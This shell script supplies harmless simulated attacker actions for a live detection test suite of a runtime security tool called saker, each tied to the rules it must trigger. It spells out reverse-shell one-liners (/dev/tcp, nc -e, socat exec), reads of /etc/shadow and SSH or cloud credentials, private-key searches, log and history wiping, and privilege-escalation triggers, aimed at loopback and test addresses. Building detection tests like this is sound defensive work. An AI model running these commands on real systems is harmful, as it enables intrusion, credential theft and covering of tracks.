# The attacker actions of the live detection suite, sourced by
# test_detect.sh while saker watches. Each action starts with
#   act ID "Rule" ...
# which names it, sets its marker $K (every alert the action causes carries
# it, in a command line or a path) and lists the rules of saker's default
# ruleset that must alert on it. Every rule has at least two actions that
# reach it in different ways (other tools, syscalls, paths). The actions
# are real and harmless: unique names that are removed at once, copies of
# /bin/true or bash named after attacker tools, private mount and network
# namespaces, a cgroup shaped like a docker container's.
#
# Uses: W (scratch directory), M (its name), B (fake tools), HELPER, CG and
# CID (the fake container), ACT (the action list written here), PORT.

# act ID RULE...: starts action ID (marker $K) and records the rules it must fire
act() {
	K="$M.$1."
	printf '%s\t%s' "$1" "$K" >>"$ACT"
	shift
	for r; do printf '\t%s' "$r" >>"$ACT"; done
	printf '\n' >>"$ACT"
}

# in_container CMD...: runs CMD in the cgroup of the fake docker container
in_container() {
	sh -c 'echo $$ > "$1/cgroup.procs" && shift && exec "$@"' in_container "$CG" "$@"
}

# in_netns CMD...: (a script in $B, so that in_container can run it) runs
# CMD in a network namespace of its own, where the test addresses
# (203.0.113.5 on a /24, 169.254.169.254) sit on loopback
cat >"$B/in_netns" <<'EOF'
#!/bin/sh
exec unshare -n sh -c 'ip link set lo up && ip addr add 203.0.113.5/24 dev lo &&
	ip addr add 169.254.169.254/32 dev lo && exec "$@"' in_netns "$@"
EOF
chmod +x "$B/in_netns"
in_netns() { "$B/in_netns" "$@"; }

# serve IP PORT CMD...: runs CMD while the helper accepts (and closes)
# connections on IP:PORT; use inside in_netns
NETNS_SERVE='"$H" listen "$1" "$2" 3 close & sleep 0.3; shift 2; "$@"; kill $! 2>/dev/null; wait'

quiet() { "$@" >/dev/null 2>&1; }

PY=/usr/bin/python3
export H="$HELPER"

# =============================================================================
# Persistence and tampering
# =============================================================================

act bin-write "Binary directory written"
echo x >"/usr/bin/$K" && rm -f "/usr/bin/$K"

act bin-rename-relative "Binary directory written"
echo x >"$W/$K.new" && (cd /usr/local/bin && mv "$W/$K.new" "./$K" && mv "./$K" "./$K.old" && rm -f "./$K.old")

act bin-mkdir "Binary directory written"
mkdir "/usr/bin/$K" && rmdir "/usr/bin/$K"

act bin-symlink-at "Binary directory written"
$PY -c "import os,sys; d=os.open('/usr/local/sbin', os.O_RDONLY); os.symlink('/bin/true', sys.argv[1], dir_fd=d); os.unlink(sys.argv[1], dir_fd=d)" "$K"

act lib-write "Library directory changed"
echo x >"/usr/lib/$K.so" && rm -f "/usr/lib/$K.so"

act lib-rename-deep "Library directory changed"
mkdir -p "/usr/lib/$K.d" && echo x >"$W/$K.so" && mv "$W/$K.so" "/usr/lib/$K.d/libc.so.6" &&
	rm -rf "/usr/lib/$K.d"

act preload-append "Dynamic linker preload configured"
made_preload=""
[ -e /etc/ld.so.preload ] || made_preload=1
# opened for appending, nothing written: an empty preload file changes nothing
sh -c 'exec 3>>/etc/ld.so.preload; : "$1"' sh "$K"
[ -n "$made_preload" ] && rm -f /etc/ld.so.preload

act ldconf-rename "Dynamic linker preload configured" "System configuration written below etc"
echo "# $K" >"$W/$K.conf" && mv "$W/$K.conf" "/etc/ld.so.conf.d/$K.conf" && rm -f "/etc/ld.so.conf.d/$K.conf"

act boot-write "Boot directory changed"
echo x >"/boot/$K" && rm -f "/boot/$K"

act boot-mkdir "Boot directory changed"
mkdir "/boot/$K" && rmdir "/boot/$K"

act passwd-append "Account database changed outside the account tools" "System configuration written below etc"
sh -c 'exec 3>>/etc/passwd; : "$1"' sh "$K"

act group-python "Account database changed outside the account tools"
$PY -c "import os,sys; os.close(os.open('/etc/group', os.O_WRONLY|os.O_APPEND)); sys.argv[1]" "$K"

act sudoers-dropin "Account database changed outside the account tools"
echo "# $K" >"/etc/sudoers.d/$K" && rm -f "/etc/sudoers.d/$K"

act apt-source "Package sources changed" "System configuration written below etc"
echo "# $K" >"/etc/apt/sources.list.d/$K.list" && rm -f "/etc/apt/sources.list.d/$K.list"

act apt-hook-rename "Package sources changed"
echo "# $K" >"$W/$K.conf" && mv "$W/$K.conf" "/etc/apt/apt.conf.d/99$K" && rm -f "/etc/apt/apt.conf.d/99$K"

act dpkg-db "Package database changed outside the package manager"
echo x >"/var/lib/dpkg/$K" && rm -f "/var/lib/dpkg/$K"

act rpm-db "Package database changed outside the package manager"
echo x >"/var/lib/rpm/$K" && rm -f "/var/lib/rpm/$K"

act cron-file "Scheduled task created or changed" "System configuration written below etc"
echo "# $K" >"/etc/cron.d/$K" && rm -f "/etc/cron.d/$K"

act crontab-run "Scheduled task created or changed"
"$B/crontab" "$W/$K.tab"

act at-run "Scheduled task created or changed"
"$B/at" -f "$W/$K.job" now

act unit-file "Service unit created or changed" "System configuration written below etc"
echo "[Unit]" >"/etc/systemd/system/$K.service" && rm -f "/etc/systemd/system/$K.service"

act unit-enable-link "Service unit created or changed"
mkdir -p "/etc/systemd/system/$K.target.wants" && ln -s /dev/null "/etc/systemd/system/$K.target.wants/x.service" &&
	rm -rf "/etc/systemd/system/$K.target.wants"

act initd-rename "Service unit created or changed"
echo "#!/bin/sh" >"$W/$K" && mv "$W/$K" "/etc/init.d/$K" && rm -f "/etc/init.d/$K"

act bashrc-append "Shell start-up file modified"
sh -c 'echo ": $1" >>"$2/.bashrc"' sh "$K" "$W/home"

act profile-python "Shell start-up file modified"
$PY -c "import sys; open(sys.argv[1] + '/.profile', 'a').write(': ' + sys.argv[2] + '\n')" "$W/home" "$K"

act zshrc-sed "Shell start-up file modified"
echo "# x" >"$W/home/.zshrc" && sed -i "s/#/: $K/" "$W/home/.zshrc"

act profile-d "Shell start-up file modified" "System configuration written below etc"
echo ": $K" >"/etc/profile.d/$K.sh" && rm -f "/etc/profile.d/$K.sh"

act authkeys-append "SSH configuration or keys modified"
sh -c 'echo "ssh-ed25519 AAAA $1" >>"$2/.ssh/authorized_keys"' sh "$K" "$UH"

act ssh-config-rename "SSH configuration or keys modified"
echo "Host * # $K" >"$W/$K.cfg" && mv "$W/$K.cfg" "$UH/.ssh/config"

act sshrc-python "SSH configuration or keys modified"
$PY -c "import sys; open(sys.argv[1], 'w').write(sys.argv[2])" "$UH/.ssh/rc" "$K"

act etc-write "System configuration written below etc"
echo x >"/etc/$K.conf" && rm -f "/etc/$K.conf"

act etc-rename "System configuration written below etc"
echo x >"$W/$K" && mv "$W/$K" "/etc/$K" && rm -f "/etc/$K"

act root-home "Root home or file system root written"
echo x >"/root/$K" && rm -f "/root/$K"

act fs-root "Root home or file system root written"
echo x >"/$K" && rm -f "/$K"

act dev-file "File created below dev"
echo x >"/dev/$K" && rm -f "/dev/$K"

act dev-hidden-dir "File created below dev"
mkdir "/dev/.$K" && rmdir "/dev/.$K"

act dev-mknod "File created below dev"
$PY -c "import os,stat,sys; p='/dev/'+sys.argv[1]; os.mknod(p, stat.S_IFREG|0o600); os.unlink(p)" "$K"

act release-agent "Kernel callback file written"
mkdir -p "$W/cg/$K" && in_container sh -c 'echo 1 >"$1/release_agent"' sh "$W/cg/$K"

act core-pattern "Kernel callback file written"
# opened for appending, nothing written: the core pattern stays as it is
sh -c 'exec 3>>/proc/sys/kernel/core_pattern; : "$1"' sh "$K"

act useradd "User account tool run"
useradd -M -N -s /usr/sbin/nologin -c "$K" "$USER_MADE"

act usermod "User account tool run"
usermod -c "$K" "$USER_MADE" && userdel "$USER_MADE"

# =============================================================================
# Credential access
# =============================================================================

act shadow-cat "Sensitive account or authentication file read"
cat /etc/shadow "$W/$K" >/dev/null 2>&1

act pam-python "Sensitive account or authentication file read"
$PY -c "import sys; open('/etc/pam.d/' + sorted(__import__('os').listdir('/etc/pam.d'))[0]).read(); sys.argv[1]" "$K"

act gshadow-redirect "Sensitive account or authentication file read"
bash -c 'read -r line </etc/gshadow; : "$1"' bash "$K"

# a server reading the shadow file well after it started (in the background)
act server-after-start "Sensitive account or authentication file read"
"$B/nginx" -c "sleep 5.5; exec 3</etc/shadow; : $K" &
LATE_SERVER=$!

act symlink-shadow "Link made to a sensitive file"
ln -s /etc/shadow "$W/$K.lnk"

act symlink-relative "Link made to a sensitive file"
$PY -c "import os,sys; os.symlink('../../etc/shadow', sys.argv[1])" "$W/$K.rel"

act hardlink-shadow "Link made to a sensitive file"
ln /etc/shadow "$W/$K.hard" && rm -f "$W/$K.hard"

act traversal-read "Sensitive file reached through directory traversal"
mkdir -p "$W/www/$K" && (cd "$W/www/$K" && "$B/nginx" -c "$PY -c \"open('../../../../etc/hostname').read(); '$K'\"; true")

act traversal-failed "Sensitive file reached through directory traversal"
(cd "$W/www" && "$B/php-fpm" -c "cat ../../../etc/$K 2>/dev/null; :")

act ssh-key-cat "SSH keys or directory read"
cat "$UH/.ssh/id_rsa" "$W/$K" >/dev/null 2>&1

act ssh-dir-list "SSH keys or directory read"
ls "$UH/.ssh" "$W/$K" >/dev/null 2>&1

act known-hosts-python "SSH keys or directory read"
$PY -c "import sys; open(sys.argv[1]).read()" "$UH/.ssh/known_hosts" "$K"

act aws-creds "Cloud credentials read"
cat "$W/home/.aws/credentials" "$W/$K" >/dev/null 2>&1

act kubeconfig "Cloud credentials read"
head -c 10 "$W/home/.kube/config" "$W/$K" >/dev/null 2>&1

act find-keys "Search for credentials"
find "$W/$K" -name id_rsa >/dev/null 2>&1

act grep-private "Search for credentials"
grep -r "BEGIN RSA PRIVATE" "$W/$K" >/dev/null 2>&1

act grep-aws "Search for credentials"
grep -ri aws_secret_access_key "$W/$K" >/dev/null 2>&1

act environ-container "Process environment read through proc"
in_container cat "/proc/$$/environ" "$W/$K" >/dev/null 2>&1

act environ-python "Process environment read through proc"
$PY -c "import os,sys; open('/proc/%d/environ' % os.getppid(),'rb').read(); sys.argv[1]" "$K"

act proc-mem "Process memory accessed by another program"
"$HELPER" proc-mem "$K"

act vm-writev "Process memory accessed by another program"
"$HELPER" vm-writev "$K"

# =============================================================================
# Execution
# =============================================================================

act web-shell "Shell started by a service"
"$B/nginx" -c "sh -c ': $K'; true"

act php-shell "Shell started by a service"
"$B/php-fpm" -c "bash -c ': $K'; true"

act db-child "Program started by a database server" "Suspicious program started below a service"
"$B/mysqld" -c "id $K >/dev/null 2>&1; true"

act db-shell "Program started by a database server" "Shell started by a service"
"$B/postgres" -c "sh -c ': $K'; true"

act web-recon "Suspicious program started below a service"
"$B/apache2" -c "uname -a $K >/dev/null 2>&1; whoami $K >/dev/null 2>&1; true"

act web-python "Suspicious program started below a service"
"$B/nginx" -c "bash -c '$PY -c pass $K; true'; true"

act revshell-devtcp "Reverse shell command line"
bash -c "bash -i >& /dev/tcp/127.0.0.1/1 0>&1; : $K" 2>/dev/null

act revshell-python "Reverse shell command line"
$PY -c "import socket,subprocess;s=socket.socket;'/bin/sh $K'"

act revshell-web "Reverse shell command line"
"$B/nginx" -c "sh -c 'true bash -i $K'; true"

act revshell-mkfifo "Reverse shell command line"
sh -c "mkfifo $W/$K.f; true nc 127.0.0.1 1; rm -f $W/$K.f"

act dup-bash "Standard streams connected to the network"
in_netns sh -c "$NETNS_SERVE" serve 203.0.113.5 $((PORT + 1)) \
	bash -c "exec 3<>/dev/tcp/203.0.113.5/$((PORT + 1)); exec 0<&3; : $K"

act dup-netcat-like "Standard streams connected to the network"
in_netns sh -c "$NETNS_SERVE" serve 203.0.113.5 $((PORT + 2)) "$HELPER" dup-exec 203.0.113.5 $((PORT + 2)) "$K"

act dup-container "Standard streams connected to the network"
in_container "$B/in_netns" sh -c "$NETNS_SERVE" serve 203.0.113.5 $((PORT + 3)) \
	$PY -c "import os,socket,sys; s=socket.create_connection(('203.0.113.5', int(sys.argv[1]))); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.execv('/bin/sh', ['sh', '-c', ':'])" $((PORT + 3)) "$K"

act tty-container "Interactive shell in a container"
in_container script -qc "bash -c ': $K'" /dev/null >/dev/null

act tty-container-runc "Interactive shell in a container"
in_container "$B/runc" -c "import pty,sys; pty.spawn(['sh', '-c', ': ' + sys.argv[1]])" "$K" >/dev/null

act recon-container "Reconnaissance in an interactive container session"
in_container env SHELL=/bin/bash script -qc "whoami $K" /dev/null >/dev/null

act recon-container-runc "Reconnaissance in an interactive container session"
in_container "$B/runc" -c "import pty,sys; pty.spawn(['id', sys.argv[1]])" "$K" >/dev/null

act sysuser-tty "Service account used interactively"
script -qc "setpriv --reuid=daemon --regid=daemon --clear-groups id $K" /dev/null >/dev/null

act sysuser-ssh "Service account used interactively"
"$B/sshd" -c "setpriv --reuid=www-data --regid=www-data --clear-groups bash -c 'id $K; true' >/dev/null; true"

act memfd-helper "Program run from memory"
"$HELPER" memfd-exec "$K"

act memfd-python "Program run from memory"
$PY -c "import os,sys; f=os.memfd_create('x'); os.write(f, open('/bin/true','rb').read()); os.execv('/proc/self/fd/%d' % f, ['true', sys.argv[1]])" "$K"

act shm-exec "Program run from shared memory"
cp /bin/true "/dev/shm/$K" && "/dev/shm/$K" && rm -f "/dev/shm/$K"

act shm-script "Program run from shared memory"
printf ':\n' >"/dev/shm/$K.sh" && sh "/dev/shm/$K.sh" && rm -f "/dev/shm/$K.sh"

act shm-relative "Program run from shared memory"
cp /bin/true "/dev/shm/$K.r" && (cd /dev/shm && "./$K.r") && rm -f "/dev/shm/$K.r"

act fresh-web "Freshly written program run from a scratch directory"
"$B/nginx" -c "cp /bin/true $W/$K.fresh && $W/$K.fresh; true"

act fresh-cron "Freshly written program run from a scratch directory"
"$B/cron" -c "$PY -c \"import os,subprocess,sys; p='/var/tmp/'+sys.argv[1]; open(p,'wb').write(open('/bin/true','rb').read()); os.chmod(p, 0o755); subprocess.run([p]); os.unlink(p)\" $K; true"

act fresh-revshell "Freshly written program run from a scratch directory"
in_netns sh -c "$NETNS_SERVE" serve 203.0.113.5 $((PORT + 6)) \
	bash -c "cp /bin/true $W/$K.rs && exec 3<>/dev/tcp/203.0.113.5/$((PORT + 6)) && exec 0<&3; $W/$K.rs; true"

act drift-host "Program run from a container's upper layer"
unshare -m sh -c "mount -t overlay overlay -o lowerdir=$W/ovl/lower,upperdir=$W/ovl/upper,workdir=$W/ovl/work $W/ovl/merged && cp /bin/true $W/ovl/merged/$K && $W/ovl/merged/$K"

act drift-container "Program run from a container's upper layer"
in_container unshare -m sh -c "mount -t overlay overlay -o lowerdir=$W/ovl2/lower,upperdir=$W/ovl2/upper,workdir=$W/ovl2/work $W/ovl2/merged && cp /bin/true $W/ovl2/merged/$K && $W/ovl2/merged/$K"

act decode-base64 "Encoded payload decoded in a container"
in_container sh -c "echo eA== | base64 -d >/dev/null; : $K"

act decode-openssl "Encoded payload decoded in a container"
in_container sh -c 'echo eA== | openssl base64 -d >/dev/null' "$K"

act decode-base32 "Encoded payload decoded in a container"
in_container base32 --decode "$W/$K" >/dev/null 2>&1

# =============================================================================
# Privilege escalation
# =============================================================================

act setuid-chmod "Setuid or setgid bit set"
cp /bin/true "$W/$K.suid" && chmod u+s "$W/$K.suid"

act setgid-python "Setuid or setgid bit set"
cp /bin/true "$W/$K.sgid" && $PY -c "import os,sys; os.chmod(sys.argv[1], 0o2755)" "$W/$K.sgid"

# in a session of user 1000 (the login uid a login would have set)
act become-root-session "User identity changed by an unexpected program"
bash -c 'echo 1000 >/proc/self/loginuid && exec "$0" setuid0 "$1"' "$HELPER" "$K"

act regain-root "User identity changed by an unexpected program"
"$HELPER" regain-root 65534 "$K"

act setuid-python-nobody "User identity changed by an unexpected program"
setpriv --reuid=65534 --regid=65534 --clear-groups $PY -c "import os,sys
try: os.setuid(0)
except OSError: pass" "$K"

act capset-admin "Non-root process gained administrator capabilities"
"$HELPER" capset-admin 65534 "$K"

act capset-python "Non-root process gained administrator capabilities"
$PY - "$K" <<'EOF'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(8, 1, 0, 0, 0)                       # PR_SET_KEEPCAPS
os.setresuid(65534, 65534, 65534)
hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)      # _LINUX_CAPABILITY_VERSION_3
data = (ctypes.c_uint32 * 6)()
libc.capget(hdr, data)
data[0] |= 1 << 19                              # CAP_SYS_PTRACE, effective
libc.capset(hdr, data)
EOF

act tunables-env "Loader tampering variables given to a program"
env GLIBC_TUNABLES=glibc.malloc.mxfast=0 su --version "$K" >/dev/null 2>&1

act tunables-python "Loader tampering variables given to a program"
$PY -c "import subprocess,sys; subprocess.run(['/bin/true', sys.argv[1]], env={'GLIBC_TUNABLES': 'glibc.malloc.check=0'})" "$K"

act gconv-path "Loader tampering variables given to a program"
env GCONV_PATH=. /bin/true "$K"

act pkexec-argc0 "Setuid program started with an empty argument list"
mkdir -p "$B/$K" && cp /bin/true "$B/$K/pkexec" && "$HELPER" exec-argc0 "$B/$K/pkexec"

act pkexec-noargs "Setuid program started with an empty argument list"
mkdir -p "$B/$K.2" && cp /bin/true "$B/$K.2/pkexec" && bash -c 'exec "$1"' bash "$B/$K.2/pkexec"

act sudoedit-backslash "Sudo heap overflow exploit attempt"
"$B/sudoedit" -s '\' "$K"

act sudo-backslash "Sudo heap overflow exploit attempt"
"$B/sudo" -i "$K\\"

act uffd-helper "Unprivileged userfaultfd use"
"$HELPER" userfaultfd 65534 "$K"

act uffd-python "Unprivileged userfaultfd use"
setpriv --reuid=65534 --regid=65534 --clear-groups $PY -c "import ctypes,os
ctypes.CDLL(None).syscall({'x86_64': 323, 'aarch64': 282}[os.uname().machine], 1)" "$K"

act xz-sshd "Backdoored xz library loaded"
mkdir -p "$W/$K" && echo x >"$W/$K/liblzma.so.5.6.1" && "$B2/sshd" "$W/$K/liblzma.so.5.6.1" >/dev/null

act xz-python "Backdoored xz library loaded"
mkdir -p "$W/$K.py" && echo x >"$W/$K.py/liblzma.so.5.6.0" && $PY -c "import sys; open(sys.argv[1]).read()" "$W/$K.py/liblzma.so.5.6.0"

# =============================================================================
# Debugging and injection
# =============================================================================

act ptrace-attach "Ptrace attach or injection"
"$HELPER" ptrace-poke "$K"

act ptrace-seize "Ptrace attach or injection"
"$HELPER" ptrace-seize "$K"

act traceme-helper "Program blocked debugging of itself"
"$HELPER" traceme "$K"

act traceme-python "Program blocked debugging of itself"
$PY -c "import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)" "$K"

# =============================================================================
# Tracks covered
# =============================================================================

act log-redirect "Log file cleared or removed"
echo x >"/var/log/$K.log" && : >"/var/log/$K.log"

act log-cp-null "Log file cleared or removed"
echo x >"/var/log/$K.log" && cp /dev/null "/var/log/$K.log"

act log-rename "Log file cleared or removed"
echo x >"/var/log/$K.log" && mv "/var/log/$K.log" "/var/log/$K.old"

act log-truncate-tool "Log file cleared or removed"
echo x >"/var/log/$K.log" && truncate -s 0 "/var/log/$K.log"

act log-rm "Log file cleared or removed"
echo x >"/var/log/$K.log" && rm -f "/var/log/$K.log" "/var/log/"*"$K"*

act history-truncate "Shell history erased or disabled"
echo ls >"$W/home/.bash_history" && bash -c ': >"$1/.bash_history"; : "$2"' bash "$W/home" "$K"

act history-truncate-tool "Shell history erased or disabled"
echo ls >"$W/home/.python_history" && truncate -s 0 "$W/home/.python_history" "$W/$K"

act history-rm "Shell history erased or disabled"
echo ls >"$W/home/.zsh_history" && rm -f "$W/home/.zsh_history" "$W/$K"

act history-rename "Shell history erased or disabled"
echo ls >"$W/home/.bash_history" && mv "$W/home/.bash_history" "$W/home/$K.old"

act history-devnull "Shell history erased or disabled"
$PY -c "import os,sys; os.symlink('/dev/null', sys.argv[1] + '/.ash_history')" "$W/home" "$K"

act history-off "Shell history erased or disabled"
env HISTFILE=/dev/null bash -c ": $K"

act shred "Bulk data destruction tool run"
echo data >"$W/$K.victim" && shred -u "$W/$K.victim"

act mke2fs "Bulk data destruction tool run"
truncate -s 2M "$W/$K.img" && mke2fs -q -F "$W/$K.img"

act rm-tree "Bulk data destruction tool run"
mkdir -p "/opt/$K/x" && rm -rf "/opt/$K"

# =============================================================================
# Network
# =============================================================================

act nmap "Network tool started"
"$B/nmap" -sS 127.0.0.1 "$K"

act tcpdump "Network tool started"
"$B/tcpdump" -i any "$K"

act dig-container "Network tool started"
in_container "$B/dig" example.invalid "$K"

act nc-exec "Netcat or socat runs a program on a connection" "Network tool started"
"$B/nc" -e /bin/sh 127.0.0.1 4444 "$K"

act nc-exec-container "Netcat or socat runs a program on a connection"
in_container "$B/nc" -lvp 4444 -e /bin/sh "$K"

act ncat-sh-exec "Netcat or socat runs a program on a connection"
"$B/ncat" --sh-exec "sh -i" 127.0.0.1 4444 "$K"

act socat-exec "Netcat or socat runs a program on a connection"
"$B/socat" tcp:127.0.0.1:4444 "exec:/bin/sh,pty,stderr" "$K"

act npm-nc "Network tool run by a package install"
in_container "$B/npm" -c "$B/nc 127.0.0.1 4444 $K; true"

act yarn-nmap "Network tool run by a package install"
"$B/yarn" -c "$B/nmap 127.0.0.1 $K; true"

act scp-container "Remote copy tool run in a container"
in_container "$B/scp" "$W/$K" user@198.51.100.7:/tmp

act rsync-container "Remote copy tool run in a container"
in_container "$B/rsync" -a "$W/$K" rsync://198.51.100.7/x

act curl-output-container "Download tool run in a container"
in_container curl -s -o "$W/$K.out" file:///etc/hostname

act curl-flags-container "Download tool run in a container"
in_container curl -fsSLo "$W/$K.out2" file:///etc/hostname

act wget-container "Download tool run in a container"
in_container "$B/wget" "http://198.51.100.7/$K"

act xmrig "Crypto miner activity"
"$B/xmrig" --donate-level 1 "$K"

act stratum "Crypto miner activity"
"$B/kworker" -o stratum+tcp://127.0.0.1:3333 "$K"

act shell-network "System program made network connections"
in_netns sh -c "$NETNS_SERVE" serve 203.0.113.5 $((PORT + 4)) \
	bash -c "exec 3<>/dev/tcp/203.0.113.5/$((PORT + 4)); : $K"

act coreutil-network "System program made network connections"
in_netns sh -c "$NETNS_SERVE" serve 203.0.113.5 $((PORT + 5)) \
	"$B/date" connect-tcp 203.0.113.5 $((PORT + 5)) "$K"

act udp-python "UDP traffic to an unexpected port"
in_netns $PY -c "import socket,sys; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('203.0.113.9', 31337))" "$K"

act udp-bash "UDP traffic to an unexpected port"
in_netns bash -c "exec 3<>/dev/udp/203.0.113.9/4444; : $K"

act ssh-port-443 "SSH client connected to an unusual port"
in_netns sh -c "$NETNS_SERVE" serve 203.0.113.5 443 \
	ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
	-o ConnectTimeout=2 -p 443 "$K@203.0.113.5" true >/dev/null 2>&1

act scp-port-8080 "SSH client connected to an unusual port"
in_netns sh -c "$NETNS_SERVE" serve 203.0.113.5 8080 \
	scp -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
	-o ConnectTimeout=2 -P 8080 /etc/hostname "u@203.0.113.5:/tmp/$K" >/dev/null 2>&1

act packet-python "Raw packet socket opened"
$PY -c "import socket,sys; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)" "$K"

act packet-container "Raw packet socket opened"
in_container "$HELPER" packet-socket "$K"

act proxy-curl "Proxy variables given to a download tool"
env http_proxy=http://127.0.0.1:1 curl -s --max-time 1 "http://198.51.100.7/$K" >/dev/null 2>&1

act proxy-wget "Proxy variables given to a download tool"
env HTTPS_PROXY=http://127.0.0.1:1 "$B/wget" "https://198.51.100.7/$K"

# =============================================================================
# Kernel
# =============================================================================

act finit-module "Kernel module load requested"
echo "not a module" >"$W/$K.ko" && "$HELPER" finit-module "$W/$K.ko" "$K"

act init-module-container "Kernel module load requested"
in_container "$HELPER" init-module "$K"

act bpf-load "BPF program loaded by an unexpected program"
"$HELPER" bpf-load "$K"

act bpf-load-refused "BPF program loaded by an unexpected program"
"$HELPER" bpf-load-bad "$K"

# =============================================================================
# Containers
# =============================================================================

act nsenter-container "Namespace entered by an unexpected program"
in_container nsenter -t $$ -u true "$K"

act setns-host "Namespace entered by an unexpected program"
"$HELPER" setns-uts $$ "$K"

act unshare-container "Namespace created by an unexpected program"
in_container unshare -U true "$K"

act unshare-container-nonroot "Namespace created by an unexpected program"
in_container setpriv --reuid=65534 --regid=65534 --clear-groups unshare -U true "$K"

act unshare-host-nonroot "Namespace created by an unexpected program"
setpriv --reuid=65534 --regid=65534 --clear-groups unshare -U true "$K"

act container-start "Container started with powerful privileges"
in_container unshare -p -f -m --mount-proc sh -c ": $K"

act container-start-python "Container started with powerful privileges"
in_container $PY -c "import ctypes,os,sys
ctypes.CDLL(None).unshare(0x20000000)                       # CLONE_NEWPID
pid = os.fork()
if pid == 0: os.execv('/bin/true', ['true', sys.argv[1]])
os.waitpid(pid, 0)" "$K"

act mount-tmpfs "File system mounted inside a container"
in_container unshare -m sh -c "mount -t tmpfs $K $W/mnt"

act mount-proc "File system mounted inside a container"
in_container unshare -m $PY -c "import ctypes,sys; ctypes.CDLL(None).mount(b'proc', sys.argv[1].encode(), b'proc', 0, None)" "$W/mnt" "$K"

act debugfs-fake "Debugfs started inside a container"
in_container "$B/debugfs" -w /dev/null "$K"

act debugfs-real "Debugfs started inside a container"
truncate -s 2M "$W/$K.fs" && mke2fs -q -F "$W/$K.fs" && in_container debugfs -R stats "$W/$K.fs" >/dev/null 2>&1

# a node named like a host disk (it is the null device: opening it reads nothing)
act raw-disk-container "Raw device access from a container"
mknod "/dev/vd$K" c 1 3 && in_container dd if="/dev/vd$K" of=/dev/null bs=512 count=1 2>/dev/null
rm -f "/dev/vd$K"

act mknod-blk-container "Raw device access from a container"
in_container "$HELPER" mknod-blk "$W/$K.blk" "$K"

act proc-root-container "Host file system reached from a container"
in_container cat "/proc/$$/root/etc/hostname" "$W/$K" >/dev/null 2>&1

act host-mount-container "Host file system reached from a container"
echo x >"/host/$K" && in_container cat "/host/$K" >/dev/null && rm -f "/host/$K"

act docker-sock-container "Container runtime socket contacted from a container"
mkdir -p "$W/$K" && $PY -c "import socket,sys; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(); import time; time.sleep(2)" "$W/$K/docker.sock" &
sleep 0.4
in_container $PY -c "import socket,sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])" "$W/$K/docker.sock"

act containerd-sock-container "Container runtime socket contacted from a container"
mkdir -p "$W/$K" && $PY -c "import socket,sys; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(); import time; time.sleep(2)" "$W/$K/containerd.sock" &
sleep 0.4
in_container curl -s --max-time 1 --unix-socket "$W/$K/containerd.sock" http://localhost/ >/dev/null 2>&1

act kubectl-container "Kubernetes or container client run in a container"
in_container "$B/kubectl" get pods "$K"

act crictl-container "Kubernetes or container client run in a container"
in_container "$B/crictl" ps "$K"

act apiserver-container "Kubernetes control plane contacted from a container"
in_container "$B/in_netns" sh -c "$NETNS_SERVE" serve 203.0.113.5 6443 \
	"$HELPER" connect-tcp 203.0.113.5 6443 "$K"

act kubelet-container "Kubernetes control plane contacted from a container"
in_container "$B/in_netns" sh -c "$NETNS_SERVE" serve 203.0.113.5 10250 \
	$PY -c "import socket; socket.create_connection(('203.0.113.5', 10250))" "$K"

act imds-curl-container "Cloud metadata service contacted from a container"
in_container "$B/in_netns" sh -c "$NETNS_SERVE" serve 169.254.169.254 80 \
	curl -s --max-time 1 "http://169.254.169.254/latest/meta-data/$K" >/dev/null 2>&1

act imds-udp-container "Cloud metadata service contacted from a container"
in_container "$B/in_netns" $PY -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('169.254.169.254', 80))" "$K"

act kubectl-cp "Files copied out of a container through the runtime"
echo secret >"$W/$K.secret" &&
	in_container "$B/runc" -c "import subprocess,sys; subprocess.run(['tar', 'cf', '-', sys.argv[1]], capture_output=True)" "$W/$K.secret" </dev/null

act docker-cp "Files copied out of a container through the runtime"
echo secret >"$W/$K.secret2" && in_container "$B/containerd-shim" -c "tar -c -f - $W/$K.secret2 | cat >/dev/null; true" </dev/null

act apt-container "Package manager run in a container"
in_container apt-get --version "$K" >/dev/null

act pip-container "Package manager run in a container"
in_container "$B/pip" install "$K"

# the server reading the shadow file is done by now
wait "$LATE_SERVER" 2>/dev/null
